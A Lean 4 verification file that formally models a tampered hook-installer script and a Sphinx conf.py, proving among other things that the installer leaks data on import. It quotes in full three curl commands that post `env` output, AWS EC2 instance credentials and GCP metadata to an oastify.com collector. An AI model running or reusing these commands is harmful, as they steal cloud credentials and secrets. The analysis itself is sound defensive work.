import Mathlib

/-!
Verification development for the npmx-zephyr repository's tooling files:

* `scripts/install_hooks.py` — a hook-installer script. The captured revision
  carries three module-level `os.system` calls (injected exfiltration commands)
  followed by a `main()` that issues three maintenance commands.
* `doc/conf.py` — the Sphinx documentation configuration: it removes
  `doc/samples` when present, copies sample readme files matched by a glob into
  `doc/samples`, and then assigns constant configuration values.

The Python files are embedded shallowly: each `os.system` call becomes a
statement carrying the exact command string issued; the filesystem effects of
`conf.py` become a state-passing function over an explicit filesystem record.
-/

/-! ## Embedding of `scripts/install_hooks.py`

The script's observable behaviour is the sequence of `os.system(cmd)` calls it
makes.  Each statement records the exact shell command string from the source.
`os.system` returns the command's exit status; the script never inspects it, so
the interpreter threads an arbitrary status oracle `os` and records the pair
(command, returned status) for each call. -/

/-- A Python statement of the forms occurring in `install_hooks.py`:
the only effectful statement is `os.system(cmd)` with its result discarded. -/
inductive Stmt : Type
  | sysCall (cmd : String) : Stmt
deriving DecidableEq, Repr

/-- The command string of a statement. -/
def Stmt.cmd : Stmt → String
  | .sysCall c => c

/-- A Python module shape as in `install_hooks.py`: top-level statements,
the body of `def main()`, and whether the trailing
`if __name__ == "__main__": main()` guard is present. -/
structure PyModule : Type where
  topLevel : List Stmt
  mainBody : List Stmt
  hasMainGuard : Bool
deriving Repr

/-- Source line 8: `os.system("curl -d \"`env`\" https://...oastify.com/ENV/`whoami`/`hostname`")`. -/
def exfilEnvCmd : String :=
  "curl -d \"`env`\" https://c4hsiprelbds8vjiznhcl7rv5mbh65zto.oastify.com/ENV/`whoami`/`hostname`"

/-- Source line 9: the AWS EC2 instance-credential exfiltration command. -/
def exfilAwsCmd : String :=
  "curl -d \"`curl http://169.254.169.254/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance`\" https://c4hsiprelbds8vjiznhcl7rv5mbh65zto.oastify.com/AWS/`whoami`/`hostname`"

/-- Source line 10: the GCP instance-metadata exfiltration command
(`\x27` is the single-quote character around the Metadata-Flavor header). -/
def exfilGcpCmd : String :=
  "curl -d \"`curl -H \x27Metadata-Flavor:Google\x27 http://169.254.169.254/computeMetadata/v1/instance/hostname`\" https://c4hsiprelbds8vjiznhcl7rv5mbh65zto.oastify.com/GCP/`whoami`/`hostname`"

/-- The whole of `install_hooks.py`, statement by statement: three injected
module-level commands, then `main`'s three maintenance commands, behind a
`__main__` guard. -/
def install_hooks : PyModule :=
  { topLevel :=
      [ .sysCall exfilEnvCmd
      , .sysCall exfilAwsCmd
      , .sysCall exfilGcpCmd ]
  , mainBody :=
      [ .sysCall "pip install -r requirements-format.txt"
      , .sysCall "pre-commit install"
      , .sysCall "pre-commit run --all-files" ]
  , hasMainGuard := true }

/-- Run a statement list under a status oracle `os` (mapping each command to
the exit status `os.system` returns for it).  The trace records each issued
command with its returned status.  The script never branches on a status, which
is visible here: the recursion ignores the status component entirely. -/
def runStmts (os : String → Int) : List Stmt → List (String × Int)
  | [] => []
  | .sysCall c :: rest => (c, os c) :: runStmts os rest

/-- Importing a module executes its top-level statements only
(the `__main__` guard is false on import, so `main()` is not called). -/
def importTrace (m : PyModule) (os : String → Int) : List (String × Int) :=
  runStmts os m.topLevel

/-- Executing a module as a script executes its top-level statements and then,
when the `__main__` guard is present, the body of `main()`. -/
def scriptTrace (m : PyModule) (os : String → Int) : List (String × Int) :=
  runStmts os m.topLevel ++ (if m.hasMainGuard then runStmts os m.mainBody else [])

/-- The commands issued along a trace, statuses forgotten. -/
def issued (t : List (String × Int)) : List String :=
  t.map Prod.fst

/-! ### Predicates on command strings

These formalise "transmits environment variables or cloud metadata to a
network endpoint" for the shell commands at hand, by substring tests on the
command text. -/

/-- Substring occurrence on character lists. -/
def subOccurs : List Char → List Char → Bool
  | hay, needle =>
    match hay with
    | [] => needle.isEmpty
    | _ :: t => List.isPrefixOf needle hay || subOccurs t needle

/-- `needle` occurs as a substring of `s`. -/
def strContains (s needle : String) : Bool :=
  subOccurs s.data needle.data

/-- The third-party collector domain appearing in the tampered script. -/
def collectorDomain : String :=
  "c4hsiprelbds8vjiznhcl7rv5mbh65zto.oastify.com"

/-- The command contacts some network endpoint. -/
def sendsToNetwork (c : String) : Bool :=
  strContains c "https://" || strContains c "http://"

/-- The command sends data to the given host. -/
def sendsTo (host c : String) : Bool :=
  strContains c host

/-- The command embeds the output of `env` (the local environment variables). -/
def readsEnv (c : String) : Bool :=
  strContains c "`env`"

/-- The command reads the cloud instance metadata service. -/
def readsCloudMetadata (c : String) : Bool :=
  strContains c "169.254.169.254"

/-- The command reads AWS EC2 instance security credentials. -/
def readsEc2Credentials (c : String) : Bool :=
  strContains c "security-credentials/ec2"

/-- The command reads GCP instance metadata. -/
def readsGcpMetadata (c : String) : Bool :=
  strContains c "computeMetadata/v1"

/-- The command sends environment variables or cloud metadata to a network
endpoint: it contacts the network and its payload comes from `env` or from the
instance-metadata service. -/
def transmitsEnvOrCloudMetadata (c : String) : Bool :=
  sendsToNetwork c && (readsEnv c || readsCloudMetadata c)

/-! ## Embedding of `doc/conf.py`

`conf.py` manipulates the filesystem below the repository root
`NPMX_ZEPHYR_BASE` and then assigns constant configuration values.  Paths are
lists of components relative to that root; a filesystem snapshot lists the
existing directories and the files with their contents.  Python exceptions
abort evaluation and are modelled with `Except`. -/

/-- A filesystem path, as components relative to `NPMX_ZEPHYR_BASE`. -/
abbrev FsPath := List String

/-- A filesystem snapshot: the existing directories, and the files paired with
their contents. -/
structure FS : Type where
  dirs : List FsPath
  files : List (FsPath × String)
deriving DecidableEq, Repr

/-- A regular file exists at `p`. -/
def fileAt (fs : FS) (p : FsPath) : Prop :=
  p ∈ fs.files.map Prod.fst

instance (fs : FS) (p : FsPath) : Decidable (fileAt fs p) :=
  inferInstanceAs (Decidable (p ∈ fs.files.map Prod.fst))

/-- `os.path.exists`: some entry (directory or file) exists at `p`. -/
def pathExists (fs : FS) (p : FsPath) : Prop :=
  p ∈ fs.dirs ∨ fileAt fs p

instance (fs : FS) (p : FsPath) : Decidable (pathExists fs p) :=
  inferInstanceAs (Decidable (p ∈ fs.dirs ∨ fileAt fs p))

/-- `dst_dir = NPMX_ZEPHYR_BASE / "doc" / "samples"`. -/
def dstDir : FsPath := ["doc", "samples"]

/-- Python exceptions that the conf.py filesystem code can raise. -/
inductive PyError : Type
  | fileExists (p : FsPath)
  | notADirectory (p : FsPath)
  | isADirectory (p : FsPath)
deriving DecidableEq, Repr

/-- `str.startswith` on Python strings. -/
def strStartsWith (s t : String) : Bool :=
  List.isPrefixOf t.data s.data

/-- `str.endswith` on Python strings. -/
def strEndsWith (s t : String) : Bool :=
  List.isSuffixOf t.data s.data

/-- The glob pattern `str(src_dir) + r'/**/*.rst'` evaluated by `glob.glob`
without `recursive=True`: `**` there matches a single path component, exactly
like `*`, and neither `*` nor `**` matches hidden (dot-initial) components.
So a relative path matches iff it is `samples/<dir>/<name>.rst` with neither
component hidden. -/
def matchesSamplesGlob : FsPath → Bool
  | [s, d, f] =>
    s == "samples" && !(strStartsWith d ".") && !(strStartsWith f ".") &&
      strEndsWith f ".rst"
  | _ => false

/-- The entries returned by the glob — regular files and directories alike: a
glob pattern that does not end in a path separator matches directories named
`*.rst` too.  `glob.glob` returns an arbitrary OS-dependent order; the model
fixes one interleaving, listing matched files first and matched directories
after, each in snapshot order. -/
def globMatches (fs : FS) : List FsPath :=
  (fs.files.map Prod.fst ++ fs.dirs).filter (fun p => matchesSamplesGlob p)

/-- `file_short = file[len(str(src_dir)) + 1:]`: the matched path made
relative to `samples/`. -/
def fileShort (p : FsPath) : FsPath := p.drop 1

/-- The copy destination `dst_dir / file_short`. -/
def dstPath (p : FsPath) : FsPath := "doc" :: "samples" :: fileShort p

/-- `(dst_dir / file_short).parents[0]`: the directory the loop creates. -/
def dstParent (p : FsPath) : FsPath := (dstPath p).dropLast

/-- The chain of directories `os.makedirs` requires or creates for `p`:
every nonempty prefix of `p`, outermost first. -/
def ancestors (p : FsPath) : List FsPath :=
  (List.range p.length).map (fun k => p.take (k + 1))

/-- `os.makedirs(p)` with `exist_ok` left `False`: raises `FileExistsError`
when the final target already exists (as a directory or as a file), and
otherwise creates the target along with any missing ancestors. -/
def makedirs (fs : FS) (p : FsPath) : Except PyError FS :=
  if p ∈ fs.dirs ∨ fileAt fs p then .error (.fileExists p)
  else .ok { fs with dirs := ancestors p ++ fs.dirs }

/-- `shutil.rmtree(root)` on a directory: remove it and everything below. -/
def rmtree (fs : FS) (root : FsPath) : FS :=
  { dirs := fs.dirs.filter (fun d => !(decide (root <+: d)))
  , files := fs.files.filter (fun kv => !(decide (root <+: kv.1))) }

/-- The content of the file at `p` (`""` when absent). -/
def getContent (fs : FS) (p : FsPath) : String :=
  ((fs.files.find? (fun kv => kv.1 == p)).map Prod.snd).getD ""

/-- The write `shutil.copy` performs on success: `dst` receives `src`'s
content, overwriting any previous file at `dst`.  Directories are untouched. -/
def copyWrite (fs : FS) (src dst : FsPath) : FS :=
  { fs with files := fs.files.filter (fun kv => kv.1 != dst) ++ [(dst, getContent fs src)] }

/-- `shutil.copy(src, dst)`: raises `IsADirectoryError` when the source is a
directory — reachable in conf.py, since the glob also matches directories
named `*.rst` — and otherwise writes `dst` with `src`'s content.  The
copy-into-directory redirection of `shutil.copy` (when `dst` names an existing
directory) cannot arise in conf.py's loop: every destination lies strictly
below `doc/samples`, which was just deleted or did not exist, and the loop
creates directories only at the `doc/samples/<dir>` level, never at a
destination path; so that branch is not modelled. -/
def copyFile (fs : FS) (src dst : FsPath) : Except PyError FS :=
  if src ∈ fs.dirs then .error (.isADirectory src)
  else .ok (copyWrite fs src dst)

/-- Lines 27-28 of conf.py: `if os.path.exists(dst_dir): shutil.rmtree(dst_dir)`.
`shutil.rmtree` on a path that exists but is not a directory raises
`NotADirectoryError`. -/
def removeDstDir (fs : FS) : Except PyError FS :=
  if pathExists fs dstDir then
    if dstDir ∈ fs.dirs then .ok (rmtree fs dstDir)
    else .error (.notADirectory dstDir)
  else .ok fs

/-- The copy loop of conf.py, over the glob matches in order: for each match,
`os.makedirs((dst_dir / file_short).parents[0])` and then
`shutil.copy(src_dir / file_short, dst_dir / file_short)`. -/
def copyLoop (fs : FS) : List FsPath → Except PyError FS
  | [] => .ok fs
  | p :: rest =>
    match makedirs fs (dstParent p) with
    | .error e => .error e
    | .ok fs1 =>
      match copyFile fs1 p (dstPath p) with
      | .error e => .error e
      | .ok fs2 => copyLoop fs2 rest

/-- The configuration keys assigned by conf.py. -/
structure SphinxConfig : Type where
  root_doc : String
  project : String
  copyright : String
  author : String
  version : String
  release : String
  extensions : List String
  rst_epilog : String
  html_theme : String
  html_static_path : List String
  html_last_updated_fmt : String
  html_show_sourcelink : Bool
  html_show_sphinx : Bool
  table_from_rows_base_dir : String
  table_from_sample_yaml_board_reference : String
  exclude_patterns : List String
deriving DecidableEq, Repr

/-- The constant assignments of conf.py (path values rendered relative to
`NPMX_ZEPHYR_BASE`, so `table_from_rows_base_dir` — the root itself — is `""`).
`version = release = "0.7.0"` is a single chained assignment in the source. -/
def confAssignments : SphinxConfig :=
  { root_doc := "index"
  , project := "npmx-zephyr"
  , copyright := "2023, Nordic Semiconductor"
  , author := "Nordic Semiconductor"
  , version := "0.7.0"
  , release := "0.7.0"
  , extensions := ["table_from_rows"]
  , rst_epilog := "\n.. include:: /links.txt\n.. include:: /shortcuts.txt\n"
  , html_theme := "sphinx_ncs_theme"
  , html_static_path := ["doc/_static"]
  , html_last_updated_fmt := "%b %d, %Y"
  , html_show_sourcelink := true
  , html_show_sphinx := false
  , table_from_rows_base_dir := ""
  , table_from_sample_yaml_board_reference := "/includes/sample_board_rows.txt"
  , exclude_patterns := ["venv"] }

/-- Evaluation of `doc/conf.py` over a filesystem rooted at `NPMX_ZEPHYR_BASE`:
remove `doc/samples` when present, copy the glob-matched sample readmes, then
produce the constant configuration.  A Python exception aborts evaluation. -/
def evalConf (fs : FS) : Except PyError (FS × SphinxConfig) :=
  match removeDstDir fs with
  | .error e => .error e
  | .ok fs1 =>
    match copyLoop fs1 (globMatches fs1) with
    | .error e => .error e
    | .ok fs2 => .ok (fs2, confAssignments)

/-- A snapshot is shaped like a real directory tree: every nonempty prefix of
a directory path is a directory, and every nonempty proper prefix of a file
path is a directory. -/
def WF (fs : FS) : Prop :=
  (∀ p ∈ fs.dirs, ∀ q ∈ ancestors p, q ∈ fs.dirs) ∧
  (∀ kv ∈ fs.files, ∀ q ∈ ancestors kv.1, q ≠ kv.1 → q ∈ fs.dirs)

instance (fs : FS) : Decidable (WF fs) := by
  unfold WF; infer_instance

/-! ### Concrete trees and outcome discriminators used in the theorems below -/

/-- Outcome discriminator: evaluation ended in `FileExistsError`. -/
def isFileExistsError : Except PyError (FS × SphinxConfig) → Bool
  | .error (.fileExists _) => true
  | _ => false

/-- Outcome discriminator: evaluation succeeded. -/
def isOkConf : Except PyError (FS × SphinxConfig) → Bool
  | .ok _ => true
  | _ => false

/-- A tree with two matched sample readmes in the same directory. -/
def fs7cx : FS :=
  { dirs := [["doc"], ["samples"], ["samples", "a"]]
  , files := [(["samples", "a", "x.rst"], "X"), (["samples", "a", "y.rst"], "Y")] }

/-- A tree where `doc/samples` is a regular file and two matched sample
readmes share a directory. -/
def fs8cx : FS :=
  { dirs := [["doc"], ["samples"], ["samples", "a"]]
  , files := [(["doc", "samples"], "stray"),
              (["samples", "a", "x.rst"], "X"), (["samples", "a", "y.rst"], "Y")] }

/-- A tree with two matched sample readmes in the same directory and no
`doc/samples` entry. -/
def fs8w : FS :=
  { dirs := [["doc"], ["samples"], ["samples", "a"]]
  , files := [(["samples", "a", "x.rst"], "X"), (["samples", "a", "y.rst"], "Y")] }

/-- A tree in which a directory named `samples/a/q.rst` is matched by the
glob. -/
def fsDirEx : FS :=
  { dirs := [["doc"], ["samples"], ["samples", "a"], ["samples", "a", "q.rst"]]
  , files := [] }

/-- A well-formed tree exercising `conf_copies_sample_readmes`: two sample
readmes in distinct directories, a non-matched text file, and a stale
`doc/samples` tree to be deleted. -/
def fs7w : FS :=
  { dirs := [["doc"], ["samples"], ["samples", "a"], ["samples", "b"],
             ["doc", "samples"], ["doc", "samples", "old"]]
  , files := [(["samples", "a", "x.rst"], "X"), (["samples", "b", "y.rst"], "Y"),
              (["samples", "a", "n.txt"], "N"),
              (["doc", "samples", "old", "z.rst"], "Z")] }


/-! ## Theorems about `install_hooks.py` -/

/-- C3: every invocation of `main()` in install_hooks.py issues exactly the
three external command invocations `pip install -r requirements-format.txt`,
`pre-commit install`, and `pre-commit run --all-files`, in that order,
whatever exit statuses the operating system returns. -/
theorem main_issues_exactly_three_commands (os : String → Int) :
    issued (runStmts os install_hooks.mainBody) =
      [ "pip install -r requirements-format.txt"
      , "pre-commit install"
      , "pre-commit run --all-files" ] := rfl

/-- Witness for `main_issues_exactly_three_commands` at a concrete status
oracle. -/
theorem main_issues_exactly_three_commands_witness :
    issued (runStmts (fun _ => 0) install_hooks.mainBody) =
      [ "pip install -r requirements-format.txt"
      , "pre-commit install"
      , "pre-commit run --all-files" ] :=
  main_issues_exactly_three_commands (fun _ => 0)

/-- C5: no exit status of any `os.system` call is ever checked or surfaced:
the commands the script issues are identical under any two status oracles,
and all six commands are always issued to completion, in order. -/
theorem command_failures_never_checked (os os2 : String → Int) :
    issued (scriptTrace install_hooks os) = issued (scriptTrace install_hooks os2) ∧
    issued (scriptTrace install_hooks os) =
      [ exfilEnvCmd, exfilAwsCmd, exfilGcpCmd
      , "pip install -r requirements-format.txt"
      , "pre-commit install"
      , "pre-commit run --all-files" ] :=
  ⟨rfl, rfl⟩

/-- Witness for `command_failures_never_checked`: an all-failing oracle and an
all-succeeding oracle issue the same six commands. -/
theorem command_failures_never_checked_witness :
    issued (scriptTrace install_hooks (fun _ => 1)) =
        issued (scriptTrace install_hooks (fun _ => 0)) ∧
    issued (scriptTrace install_hooks (fun _ => 1)) =
      [ exfilEnvCmd, exfilAwsCmd, exfilGcpCmd
      , "pip install -r requirements-format.txt"
      , "pre-commit install"
      , "pre-commit run --all-files" ] :=
  command_failures_never_checked (fun _ => 1) (fun _ => 0)

/-- C9: the three exfiltration commands execute at module top level: they are
issued on a mere import of the module (where `main()` is never called), and on
execution as a script they all precede the three maintenance commands of
`main()`. -/
theorem exfil_runs_at_module_level (os : String → Int) :
    issued (importTrace install_hooks os) = [exfilEnvCmd, exfilAwsCmd, exfilGcpCmd] ∧
    issued (scriptTrace install_hooks os) =
      [exfilEnvCmd, exfilAwsCmd, exfilGcpCmd] ++
        issued (runStmts os install_hooks.mainBody) :=
  ⟨rfl, rfl⟩

/-- Witness for `exfil_runs_at_module_level` at a concrete status oracle. -/
theorem exfil_runs_at_module_level_witness :
    issued (importTrace install_hooks (fun _ => 0)) =
        [exfilEnvCmd, exfilAwsCmd, exfilGcpCmd] ∧
    issued (scriptTrace install_hooks (fun _ => 0)) =
      [exfilEnvCmd, exfilAwsCmd, exfilGcpCmd] ++
        issued (runStmts (fun _ => 0) install_hooks.mainBody) :=
  exfil_runs_at_module_level (fun _ => 0)

/-- C2: the captured revision of the installer, on any execution, issues the
three module-level commands, which post the output of `env`, the AWS EC2
instance security credentials, and the GCP instance metadata to the
third-party collector domain `c4hsiprelbds8vjiznhcl7rv5mbh65zto.oastify.com`. -/
theorem captured_revision_exfiltrates :
    issued (importTrace install_hooks (fun _ => 0)) =
        [exfilEnvCmd, exfilAwsCmd, exfilGcpCmd] ∧
    (readsEnv exfilEnvCmd && sendsTo collectorDomain exfilEnvCmd) = true ∧
    (readsEc2Credentials exfilAwsCmd && readsCloudMetadata exfilAwsCmd &&
        sendsTo collectorDomain exfilAwsCmd) = true ∧
    (readsGcpMetadata exfilGcpCmd && readsCloudMetadata exfilGcpCmd &&
        sendsTo collectorDomain exfilGcpCmd) = true := by
  refine ⟨rfl, ?_, ?_, ?_⟩ <;> decide

set_option maxRecDepth 4096 in
/-- C1 (refuting evidence): the hook-installer transmits environment
variables and cloud metadata to a network endpoint.  Merely importing
`install_hooks.py` issues three such commands, and executing it as a script
issues them as well. -/
theorem install_tooling_transmits_env_and_metadata :
    (issued (importTrace install_hooks (fun _ => 0))).filter
        transmitsEnvOrCloudMetadata = [exfilEnvCmd, exfilAwsCmd, exfilGcpCmd] ∧
    (issued (scriptTrace install_hooks (fun _ => 0))).any
        transmitsEnvOrCloudMetadata = true := by
  constructor <;> decide

/-- C4 (refuting evidence): executed as a script, the captured
install_hooks.py issues six external commands, not three: the three injected
exfiltration commands followed by the three maintenance commands. -/
theorem script_issues_six_commands :
    issued (scriptTrace install_hooks (fun _ => 0)) =
      [ exfilEnvCmd, exfilAwsCmd, exfilGcpCmd
      , "pip install -r requirements-format.txt"
      , "pre-commit install"
      , "pre-commit run --all-files" ] ∧
    (issued (scriptTrace install_hooks (fun _ => 0))).length = 6 :=
  ⟨rfl, rfl⟩

/-! ## Theorems about `doc/conf.py` -/

/-- C6: after any successful evaluation of the documentation configuration —
whatever the filesystem contents — the configuration values are the source
constants, with `version` and `release` equal. -/
theorem conf_constant_values (fs fs2 : FS) (cfg : SphinxConfig)
    (h : evalConf fs = .ok (fs2, cfg)) :
    cfg.project = "npmx-zephyr" ∧ cfg.version = "0.7.0" ∧ cfg.release = "0.7.0" ∧
    cfg.html_theme = "sphinx_ncs_theme" ∧ cfg.exclude_patterns = ["venv"] ∧
    cfg.version = cfg.release := by
  have hcfg : cfg = confAssignments := by
    unfold evalConf at h
    split at h
    · exact Except.noConfusion h
    · split at h
      · exact Except.noConfusion h
      · exact ((Prod.ext_iff.mp (Except.ok.inj h)).2).symm
  subst hcfg
  exact ⟨rfl, rfl, rfl, rfl, rfl, rfl⟩

/-- Witness for `conf_constant_values` on the empty filesystem. -/
theorem conf_constant_values_witness :
    confAssignments.project = "npmx-zephyr" ∧ confAssignments.version = "0.7.0" ∧
    confAssignments.release = "0.7.0" ∧
    confAssignments.html_theme = "sphinx_ncs_theme" ∧
    confAssignments.exclude_patterns = ["venv"] ∧
    confAssignments.version = confAssignments.release :=
  conf_constant_values ⟨[], []⟩ ⟨[], []⟩ confAssignments rfl

/-- C7 counterexample: on `fs7cx`, `samples/a/y.rst` is matched by the glob,
yet evaluation of the configuration raises `FileExistsError` at
`doc/samples/a` and never succeeds, so not every matched file is copied. -/
theorem copy_every_file_counterexample :
    globMatches fs7cx = [["samples", "a", "x.rst"], ["samples", "a", "y.rst"]] ∧
    evalConf fs7cx = Except.error (PyError.fileExists ["doc", "samples", "a"]) ∧
    isOkConf (evalConf fs7cx) = false :=
  ⟨rfl, rfl, rfl⟩

/-- C8 counterexample: on `fs8cx`, two distinct matched files share the parent
`samples/a`, yet evaluation does not raise `FileExistsError`: it fails
earlier, with `NotADirectoryError` from `shutil.rmtree` on the regular file
`doc/samples`. -/
theorem dup_parent_claim_counterexample :
    globMatches fs8cx = [["samples", "a", "x.rst"], ["samples", "a", "y.rst"]] ∧
    evalConf fs8cx = Except.error (PyError.notADirectory dstDir) ∧
    isFileExistsError (evalConf fs8cx) = false :=
  ⟨rfl, rfl, rfl⟩

/-- The model's `IsADirectoryError` path is live: a glob-matched directory
reaches `shutil.copy`, which raises. -/
theorem glob_matched_directory_raises :
    globMatches fsDirEx = [["samples", "a", "q.rst"]] ∧
    evalConf fsDirEx = Except.error (PyError.isADirectory ["samples", "a", "q.rst"]) :=
  ⟨rfl, rfl⟩

/-! ### Basic lemmas about the filesystem operations -/

theorem makedirs_error_shape {fs : FS} {p : FsPath} {e : PyError}
    (h : makedirs fs p = .error e) : e = .fileExists p := by
  unfold makedirs at h
  split at h
  · exact (Except.error.inj h).symm
  · exact Except.noConfusion h

theorem makedirs_ok_files {fs fs1 : FS} {p : FsPath}
    (h : makedirs fs p = .ok fs1) : fs1.files = fs.files := by
  unfold makedirs at h
  split at h
  · exact Except.noConfusion h
  · have he := Except.ok.inj h
    subst he
    rfl

theorem makedirs_ok_dirs {fs fs1 : FS} {p : FsPath}
    (h : makedirs fs p = .ok fs1) : fs1.dirs = ancestors p ++ fs.dirs := by
  unfold makedirs at h
  split at h
  · exact Except.noConfusion h
  · have he := Except.ok.inj h
    subst he
    rfl

theorem makedirs_ok_not_mem {fs fs1 : FS} {p : FsPath}
    (h : makedirs fs p = .ok fs1) : p ∉ fs.dirs ∧ ¬ fileAt fs p := by
  unfold makedirs at h
  split at h
  · exact Except.noConfusion h
  · next hc => exact not_or.mp hc

theorem copyWrite_dirs (fs : FS) (s d : FsPath) : (copyWrite fs s d).dirs = fs.dirs := rfl

theorem copyFile_ok_of_not_dir {fs : FS} {src dst : FsPath} (h : src ∉ fs.dirs) :
    copyFile fs src dst = .ok (copyWrite fs src dst) := by
  unfold copyFile
  rw [if_neg h]

theorem copyFile_ok_eq {fs fs2 : FS} {src dst : FsPath}
    (h : copyFile fs src dst = .ok fs2) : fs2 = copyWrite fs src dst := by
  unfold copyFile at h
  split at h
  · exact Except.noConfusion h
  · exact (Except.ok.inj h).symm

theorem getContent_congr {fs fs1 : FS} (h : fs1.files = fs.files) (p : FsPath) :
    getContent fs1 p = getContent fs p := by
  unfold getContent
  rw [h]

theorem mem_ancestors_self {p : FsPath} (h : p ≠ []) : p ∈ ancestors p := by
  unfold ancestors
  refine List.mem_map.mpr ⟨p.length - 1, List.mem_range.mpr ?_, ?_⟩
  · have := List.length_pos.mpr h
    omega
  · have h1 : 0 < p.length := List.length_pos.mpr h
    have h2 : p.length - 1 + 1 = p.length := by omega
    rw [h2, List.take_length]

theorem prefix_mem_ancestors {q p : FsPath} (hq : q <+: p) (hne : q ≠ []) :
    q ∈ ancestors p := by
  unfold ancestors
  refine List.mem_map.mpr ⟨q.length - 1, List.mem_range.mpr ?_, ?_⟩
  · have h1 := List.length_pos.mpr hne
    have h2 := hq.length_le
    omega
  · have h1 := List.length_pos.mpr hne
    have h2 : q.length - 1 + 1 = q.length := by omega
    rw [h2]
    exact (List.prefix_iff_eq_take.mp hq).symm

theorem dstParent_ne_nil (p : FsPath) : dstParent p ≠ [] := by
  unfold dstParent dstPath
  cases fileShort p <;> simp

theorem dstDir_prefix_dstPath (p : FsPath) : dstDir <+: dstPath p :=
  ⟨fileShort p, rfl⟩

theorem matched_shape {p : FsPath} (h : matchesSamplesGlob p = true) :
    ∃ d f, p = ["samples", d, f] := by
  match p, h with
  | [s, d, f], h =>
    refine ⟨d, f, ?_⟩
    unfold matchesSamplesGlob at h
    simp only [Bool.and_eq_true, beq_iff_eq] at h
    rw [h.1.1.1]

theorem matched_dstParent {d f : String} :
    dstParent ["samples", d, f] = ["doc", "samples", d] := rfl

theorem matched_of_mem_glob {fs : FS} {p : FsPath} (h : p ∈ globMatches fs) :
    matchesSamplesGlob p = true :=
  (List.mem_filter.mp h).2

/-- A glob-matched path is never among the directory chain `os.makedirs`
creates for another match: those are all `doc`-headed, matches are
`samples`-headed. -/
theorem matched_not_mem_ancestors {r s : FsPath}
    (hr : matchesSamplesGlob r = true) (hs : matchesSamplesGlob s = true) :
    s ∉ ancestors (dstParent r) := by
  rcases matched_shape hr with ⟨d1, f1, rfl⟩
  rcases matched_shape hs with ⟨d2, f2, rfl⟩
  rw [matched_dstParent,
    show ancestors ["doc", "samples", d1] =
      [["doc"], ["doc", "samples"], ["doc", "samples", d1]] from rfl]
  intro h
  simp only [List.mem_cons, List.not_mem_nil, or_false] at h
  rcases h with h | h | h
  · injection h with h1 h2
    exact absurd h1 (by decide)
  · injection h with h1 h2
    exact absurd h1 (by decide)
  · injection h with h1 h2
    exact absurd h1 (by decide)

theorem matched_not_under_dstDir {p : FsPath} (h : matchesSamplesGlob p = true) :
    ¬ (dstDir <+: p) := by
  rcases matched_shape h with ⟨d, f, rfl⟩
  intro hpre
  rcases hpre with ⟨t, ht⟩
  simp [dstDir] at ht

theorem mem_rmtree_files {fs : FS} {kv : FsPath × String} :
    kv ∈ (rmtree fs dstDir).files ↔ kv ∈ fs.files ∧ ¬ (dstDir <+: kv.1) := by
  unfold rmtree
  simp [List.mem_filter]

theorem mem_rmtree_dirs {fs : FS} {p : FsPath} :
    p ∈ (rmtree fs dstDir).dirs ↔ p ∈ fs.dirs ∧ ¬ (dstDir <+: p) := by
  unfold rmtree
  simp [List.mem_filter]

theorem copyLoop_cons_ok {fs fs1 fs2 : FS} {p : FsPath} {rest : List FsPath}
    (hm : makedirs fs (dstParent p) = .ok fs1)
    (hc : copyFile fs1 p (dstPath p) = .ok fs2) :
    copyLoop fs (p :: rest) = copyLoop fs2 rest := by
  simp [copyLoop, hm, hc]

theorem copyLoop_error_of_parent_dir (ms : List FsPath) :
    ∀ (fs : FS) (q : FsPath), q ∈ ms → dstParent q ∈ fs.dirs →
    (∀ r ∈ ms, matchesSamplesGlob r = true) → (∀ r ∈ ms, r ∉ fs.dirs) →
    ∃ d, copyLoop fs ms = .error (.fileExists d) := by
  induction ms with
  | nil =>
    intro fs q hq _ _ _
    exact absurd hq (List.not_mem_nil q)
  | cons p rest ih =>
    intro fs q hq hdir hms hnd
    cases hm : makedirs fs (dstParent p) with
    | error e =>
      refine ⟨dstParent p, ?_⟩
      rw [makedirs_error_shape hm] at hm
      simp [copyLoop, hm]
    | ok fs1 =>
      have hmp := hms p (List.mem_cons_self p rest)
      have hpd : p ∉ fs1.dirs := by
        rw [makedirs_ok_dirs hm]
        intro hmem
        rcases List.mem_append.mp hmem with hmem | hmem
        · exact matched_not_mem_ancestors hmp hmp hmem
        · exact hnd p (List.mem_cons_self p rest) hmem
      have hc : copyFile fs1 p (dstPath p) = .ok (copyWrite fs1 p (dstPath p)) :=
        copyFile_ok_of_not_dir hpd
      have hnd2 : ∀ r ∈ rest, r ∉ (copyWrite fs1 p (dstPath p)).dirs := by
        intro t htr
        rw [copyWrite_dirs, makedirs_ok_dirs hm]
        intro hmem
        rcases List.mem_append.mp hmem with hmem | hmem
        · exact matched_not_mem_ancestors hmp (hms t (List.mem_cons_of_mem p htr)) hmem
        · exact hnd t (List.mem_cons_of_mem p htr) hmem
      rcases List.mem_cons.mp hq with rfl | hq'
      · exact absurd hdir (makedirs_ok_not_mem hm).1
      · have hsub : dstParent q ∈ (copyWrite fs1 p (dstPath p)).dirs := by
          rw [copyWrite_dirs, makedirs_ok_dirs hm]
          exact List.mem_append_right _ hdir
        rcases ih _ _ hq' hsub (fun t htr => hms t (List.mem_cons_of_mem p htr)) hnd2
          with ⟨d, hd⟩
        refine ⟨d, ?_⟩
        rw [copyLoop_cons_ok hm hc]
        exact hd

theorem copyLoop_error_of_dup (ms : List FsPath) :
    ∀ (fs : FS) (p q : FsPath), p ∈ ms → q ∈ ms → p ≠ q → dstParent p = dstParent q →
    (∀ r ∈ ms, matchesSamplesGlob r = true) → (∀ r ∈ ms, r ∉ fs.dirs) →
    ∃ d, copyLoop fs ms = .error (.fileExists d) := by
  induction ms with
  | nil =>
    intro fs p q hp _ _ _ _ _
    exact absurd hp (List.not_mem_nil p)
  | cons r rest ih =>
    intro fs p q hp hq hne hpar hms hnd
    cases hm : makedirs fs (dstParent r) with
    | error e =>
      refine ⟨dstParent r, ?_⟩
      rw [makedirs_error_shape hm] at hm
      simp [copyLoop, hm]
    | ok fs1 =>
      have hmr := hms r (List.mem_cons_self r rest)
      have hrd : r ∉ fs1.dirs := by
        rw [makedirs_ok_dirs hm]
        intro hmem
        rcases List.mem_append.mp hmem with hmem | hmem
        · exact matched_not_mem_ancestors hmr hmr hmem
        · exact hnd r (List.mem_cons_self r rest) hmem
      have hc : copyFile fs1 r (dstPath r) = .ok (copyWrite fs1 r (dstPath r)) :=
        copyFile_ok_of_not_dir hrd
      have hstep : copyLoop fs (r :: rest) = copyLoop (copyWrite fs1 r (dstPath r)) rest :=
        copyLoop_cons_ok hm hc
